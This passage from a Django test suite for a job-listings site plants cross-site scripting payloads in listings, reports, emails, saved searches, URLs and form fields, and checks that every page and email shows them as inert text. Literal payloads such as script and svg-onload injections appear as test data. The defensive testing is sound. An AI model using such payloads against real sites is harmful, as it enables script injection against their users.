        planted.put(self.reviewed, "description_en")
        planted.put(self.reviewed, "approved_content", keys=("title_en", "description_en"))
        for code, detail in zip(
            itertools.cycle(ListingFlag.Code.values), FLAG_DETAILS, strict=False
        ):
            planted.put(
                ListingFlag.objects.create(listing=self.reviewed, code=code, detail=detail),
                "detail",
            )
        self.reported = planted.put(
            PublishedListingFactory(company=self.company, title_en=TITLES[1], slug="reported"),
            "title_en",
        )
        self.reports = []
        for number, details in enumerate(DETAILS):
            reporter = SeekerFactory(
                email=EMAIL_PAYLOADS[number % len(EMAIL_PAYLOADS)], full_name=NAMES[number]
            )
            planted.put(reporter, "email", "full_name")
            report = AbuseReport.objects.create(
                listing=self.reported, reporter=reporter, reason="fees", details=details
            )
            planted.put(report, "details")
            self.reports.append(report)
        listing_services.report_resolve(
            report=self.reports[-1], by=self.moderator, outcome="no_action", note=DETAILS[0]
        )
        planted.put(self.reports[-1], "resolution_note")
        self.email = notify_rendered(
            kind=Notification.Kind.ACCOUNT,
            to_email=EMAIL_PAYLOADS[0],
            subject=TITLES[0],
            body_text="\n".join(PAYLOADS),
            body_html=ALL_MARKDOWN,
            dedup_key="xss",
        )
        planted.put(self.email, "to_email", "subject", "body_text", "body_html")
        profile = SeekerProfileFactory(full_name=NAMES[3], summary=DETAILS[0])
        planted.put(profile, "full_name", "summary")
        self.application = ApplicationFactory(
            listing=self.reported, seeker=profile.user, cover_letter=DETAILS[1]
        )
        planted.put(self.application, "cover_letter")
        planted.put(self.application, "profile_snapshot", keys=("full_name", "summary"))
        event = ApplicationEvent.objects.create(
            application=self.application, message=DETAILS[0], internal_note=DETAILS[1]
        )
        planted.put(event, "message", "internal_note")


def test_moderation_screens_show_listing_report_and_email_text_as_text(planted, pages):
    moderation = Moderation(planted)
    moderator = logged_in(moderation.moderator)
    superuser = logged_in(moderation.superuser)
    reviewed, reports = moderation.reviewed, moderation.reports
    pages.check(moderator, "/admin/", kind="dashboard")
    pages.check(moderator, "/admin/listings/listingforreview/", kind="queue", shows=TITLES)
    pages.check(
        moderator,
        f"/admin/listings/listingforreview/{reviewed.pk}/change/",
        kind="review",
        shows=[TITLES[0], TITLES[-1], *FLAG_DETAILS],
    )
    pages.check(
        superuser,
        f"/admin/listings/listing/{reviewed.pk}/change/",
        kind="listing",
        shows=[TITLES[-1], *FLAG_DETAILS],
    )
    pages.check(
        moderator,
        "/admin/listings/abusereport/",
        kind="reports",
        shows=[TITLES[1], *[report.reporter.email for report in reports]],
    )
    for report in reports:
        pages.check(
            moderator,
            f"/admin/listings/abusereport/{report.pk}/change/",
            kind=f"report {report.status}",
            shows=[report.details, report.reporter.email, report.resolution_note],
        )
    # The resolve action's confirmation page lists the reports it applies to.
    response = moderator.post(
        "/admin/listings/abusereport/",
        {"action": "resolve_reports", "_selected_action": [report.pk for report in reports]},
    )
    assert response.status_code == 200
    assert_nothing_executable(response.content.decode(), "resolve reports", allow=ADMIN_ICONS)
    assert_shown_as_text(response.content.decode(), [TITLES[1]], "resolve reports")
    pages.check(moderator, "/admin/listings/listingflag/", kind="flags", shows=FLAG_DETAILS)
    # The admin's search box shows the words searched for (here matching no report).
    query = urlencode({"q": f"{packed(200)[0]} no-such-report"})
    pages.check(moderator, f"/admin/listings/abusereport/?{query}", kind="search")
    pages.check(
        superuser,
        f"/admin/listings/company/{moderation.company.pk}/change/",
        kind="company",
        shows=[NAMES[0], "\n".join(PAYLOADS)],
    )
    pages.check(
        superuser,
        f"/admin/notifications/notification/{moderation.email.pk}/change/",
        kind="email",
        # The outbox shows an email's HTML as its source text.
        shows=[TITLES[0], EMAIL_PAYLOADS[0], "\n".join(PAYLOADS), ALL_MARKDOWN],
    )
    pages.check(superuser, "/admin/notifications/notification/", kind="emails", shows=[TITLES[0]])
    pages.check(
        superuser,
        f"/admin/applicants/application/{moderation.application.pk}/change/",
        kind="application",
        shows=[*DETAILS],
    )
    pages.check(superuser, "/admin/applicants/seekerprofile/", kind="profiles", shows=[NAMES[3]])
    pages.compare_with_plain_text()


# ---- saved searches and job alerts ----

SEARCH_NAMES = packed(80)


def test_saved_search_names_are_shown_as_text_on_alert_pages_and_in_alert_emails(planted, pages):
    # The new job that every saved search below finds.
    PublishedListingFactory(
        company=CompanyFactory(name_en=NAMES[0], slug="alerting"),
        title_en=TITLES[0],
        slug="alerting",
    )
    owners, created = [], timezone.now() - datetime.timedelta(days=2)
    per_seeker = SavedSearch.MAX_PER_SEEKER
    for start in range(0, len(SEARCH_NAMES), per_seeker):
        batch = SEARCH_NAMES[start : start + per_seeker]
        owner = SeekerFactory()
        for number, name in enumerate(batch):
            search = SavedSearch.objects.create(
                user=owner, name=name, querystring=f"salary_min={(number + 1) * 10_000}"
            )
            planted.put(search, "name")
        SavedSearch.objects.filter(user=owner).update(created_at=created)
        owners.append((owner, batch))
    for owner, names in owners:
        pages.check(logged_in(owner), "/en/me/alerts/", kind="alerts", shows=names)
    owner, names = owners[0]
    search = SavedSearch.objects.filter(user=owner).order_by("pk").first()
    pages.check(logged_in(owner), f"/en/me/alerts/{search.pk}/edit/", kind="edit")
    token = alerts.unsubscribe_token_for_search(search)
    pages.check(Client(), f"/en/alerts/unsubscribe/{token}/", kind="unsubscribe", shows=[names[0]])

    assert alerts.alerts_send_digests(frequency="daily") == len(owners)
    for owner, names in owners:
        (email,) = Notification.objects.filter(kind=Notification.Kind.JOB_ALERT, recipient=owner)
        assert_email_is_inert(email, shows=[*names, TITLES[0], NAMES[0]])
    pages.compare_with_plain_text()


# ---- emails: the HTML bodies in the outbox ----

# What the email templates use; anything else in an email came from what someone typed.
EMAIL_TAGS = {
    "html", "head", "meta", "title", "body", "div", "p", "a", "br", "strong", "blockquote",
    "h2", "ul", "li", "span",
}  # fmt: skip
EMAIL_ATTRIBUTES = {"lang", "dir", "charset", "name", "content", "style", "href", "rel"}


def assert_email_is_inert(notification: Notification, *, shows=()) -> None:
    where = f"{notification.kind} email to {notification.to_email}"
    document = assert_nothing_executable(notification.body_html, where)
    for tag, attrs in document.elements:
        assert tag in EMAIL_TAGS, f"<{tag}> in {where}"
        assert {name for name, _value in attrs} <= EMAIL_ATTRIBUTES, f"<{tag} {attrs}> in {where}"
        if tag == "a":
            assert dict(attrs)["href"].startswith(("http://", "https://", "mailto:")), where
    assert_shown_as_text(notification.body_html, shows, where)
    # A subject is one header line: nothing typed can add a header.
    assert "\n" not in notification.subject and "\r" not in notification.subject


def test_every_email_shows_names_titles_messages_and_reasons_as_text():
    company = CompanyFactory(name_en=NAMES[3], name_ja=NAMES[4], slug="emailing")
    owner = MembershipFactory(company=company, user__full_name=NAMES[5]).user
    # A colleague who gets the daily summary of new applicants.
    MembershipFactory(
        company=company,
        role=CompanyMembership.Role.MEMBER,
        applicant_emails=CompanyMembership.ApplicantEmails.DAILY,
        user__full_name=NAMES[6],
    )
    listing = PublishedListingFactory(
        company=company, title_en=TITLES[2], title_ja=TITLES[3], slug="emailing"
    )
    # This seeker reads emails in Japanese: the Japanese title and company name.
    profile = SeekerProfileFactory(
        full_name=NAMES[7], user__full_name=NAMES[8], user__preferred_language="ja"
    )
    seeker = profile.user
    application, _created = applicant_services.application_submit(
        listing=listing, seeker=seeker, cv=CVFactory(owner=seeker), cover_letter=DETAILS[0]
    )
    for status, message in zip(
        (Application.Status.IN_REVIEW, Application.Status.INTERVIEW), DETAILS, strict=True
    ):
        applicant_services.application_move(
            application=application, by=owner, to_status=status, message=message
        )
    applicant_services.applicants_send_daily_summaries(
        now=timezone.now() + datetime.timedelta(minutes=1)
    )
    applicant_services.application_withdraw(application=application, by=seeker)
    rejected = [listing, PublishedListingFactory(company=company, title_en=TITLES[5], slug="b")]
    for each, reason in zip(rejected, DETAILS, strict=True):
        Listing.objects.filter(pk=each.pk).update(rejection_reason=reason)
        each.refresh_from_db()
        for event in ("approved", "rejected", "expiring", "expired", "suspended"):
            getattr(notification_emails, f"listing_{event}")(each)
    notification_emails.company_verified(company)
    listing_services.company_invite(company=company, email=EMAIL_PAYLOADS[2], by=owner)
    notify_rendered(
        kind=Notification.Kind.ACCOUNT,
        to_email=EMAIL_PAYLOADS[0],
        subject=TITLES[4],
        body_text="\n".join(PAYLOADS),
        body_html="",
        dedup_key="account-xss",
    )

    shows = {
        Notification.Kind.APPLICATION_RECEIVED: [NAMES[8], TITLES[3], NAMES[4]],
        Notification.Kind.NEW_APPLICANT: [NAMES[5], NAMES[7], TITLES[2]],
        Notification.Kind.APPLICATION_STATUS: [NAMES[8], TITLES[3], NAMES[4]],
        Notification.Kind.APPLICANTS_DIGEST: [NAMES[6], NAMES[7], TITLES[2]],
        Notification.Kind.APPLICATION_WITHDRAWN: [NAMES[7], TITLES[2]],
        Notification.Kind.LISTING_APPROVED: [],
        Notification.Kind.LISTING_REJECTED: [],
        Notification.Kind.LISTING_EXPIRING: [],
        Notification.Kind.LISTING_EXPIRED: [],
        Notification.Kind.LISTING_SUSPENDED: [],
        Notification.Kind.COMPANY_VERIFIED: [NAMES[3]],
        Notification.Kind.COMPANY_INVITATION: [NAMES[3], NAMES[5]],
        Notification.Kind.ACCOUNT: ["\n".join(PAYLOADS)],
    }
    sent = Notification.objects.all()
    assert {notification.kind for notification in sent} == set(shows)
    for notification in sent:
        expected = shows[notification.kind]
        if notification.kind.startswith("listing_"):
            each = next(each for each in rejected if each.title_en in notification.subject)
            expected = [each.title_en]
            if notification.kind == Notification.Kind.LISTING_REJECTED:
                expected.append(each.rejection_reason)
        assert_email_is_inert(notification, shows=expected)
    messages = [
        notification.body_html
        for notification in sent.filter(kind=Notification.Kind.APPLICATION_STATUS)
    ]
    for message in DETAILS:
        assert any(_squeezed(message) in text_of(body) for body in messages)


# ---- reflected: what the address says, shown back on the page ----


def _get_inert(client: Client, url: str, *, status: int = 200, shows=()) -> str:
    response = client.get(url)
    assert response.status_code == status, url
    markup = response.content.decode()
    assert_nothing_executable(markup, url)
    assert_shown_as_text(markup, shows, url)
    return markup


# The payloads that leave an attribute value, an element or a block, and template syntax:
# the places the search words show in. Each search runs every filter and facet, so a few
# requests hold them all.
ESCAPING_PAYLOADS = [
    payload
    for payload in PAYLOADS
    if payload.startswith(('"', "'", "</", "-->", "]]>", "&", "%", "{", "$"))
]


def test_search_words_are_shown_back_as_text(client, seeker):
    for words in packed(200, ESCAPING_PAYLOADS):
        _get_inert(client, f"/en/jobs/?{urlencode({'q': words})}", shows=[words])
    # A seeker's page also offers to save the search under the same words.
    client.force_login(seeker)
    words = packed(200, ESCAPING_PAYLOADS)[0]
    markup = _get_inert(client, f"/en/jobs/?{urlencode({'q': words})}", shows=[words])
    fields = {dict(attrs).get("name"): dict(attrs) for tag, attrs in parse(markup).elements}
    assert fields["name"]["value"] == fields["q"]["value"] == _collapsed(words)


FILTERS = (
    "q", "sector", "status", "region", "prefecture", "jp_level", "salary_min",
    "employment_type", "housing", "nationality", "posted_within", "sort", "page",
)  # fmt: skip


def test_query_strings_and_paths_are_never_shown_back_as_markup(client, seeker):
    listing = PublishedListingFactory(slug="reflected")
    # Every filter of the search with attack values, and attack text as parameter names.
    query = urlencode(
        [(name, payload) for name in FILTERS for payload in PAYLOADS[:12]]
        + [(payload, payload) for payload in PAYLOADS]
    )
    for url in (
        f"/en/jobs/?{query}",
        f"/en/jobs/{listing.pk}/reflected/?{query}",
        f"/en/accounts/login/?{urlencode({'next': PAYLOADS[10]})}&{query}",
        f"/en/accounts/signup/?{urlencode({'role': PAYLOADS[11]})}",
    ):
        _get_inert(client, url)
    for payload in ('"><script>alert(1)</script>', "<svg onload=alert(1)>"):
        _get_inert(client, f"/en/jobs/{quote(payload)}/", status=404)
        _get_inert(client, f"/en/companies/{quote(payload)}/", status=404)
    client.force_login(seeker)
    _get_inert(client, f"/en/jobs/{listing.pk}/reflected/?{query}")
    _get_inert(client, f"/en/jobs/?{query}")


def test_form_errors_and_messages_show_what_was_typed_as_text(seeker):
    client = logged_in(seeker)
    listing = PublishedListingFactory(slug="reported")
    # A choice that is not on the list comes back in the error message.
    response = client.post(
        f"/en/jobs/{listing.pk}/report/", {"reason": PAYLOADS[0], "details": DETAILS[0]}
    )
    assert response.status_code == 200
    assert_nothing_executable(response.content.decode(), "report form")
    assert_shown_as_text(response.content.decode(), [PAYLOADS[0], DETAILS[0]], "report form")
    # A saved search's name comes back in the message that confirms it.
    name = SEARCH_NAMES[0]
    response = client.post(
        "/en/me/alerts/new/",
        {"name": name, "querystring": "sector=nursing-care", "frequency": "daily"},
        follow=True,
    )
    assert response.status_code == 200
    assert_nothing_executable(response.content.decode(), "saved search message")
    assert_shown_as_text(response.content.decode(), [name], "saved search message")
    search = SavedSearch.objects.get(user=seeker)
    response = client.post(
        f"/en/me/alerts/{search.pk}/edit/", {"name": name, "frequency": PAYLOADS[10]}
    )
    assert response.status_code == 200
    assert_nothing_executable(response.content.decode(), "saved search form")
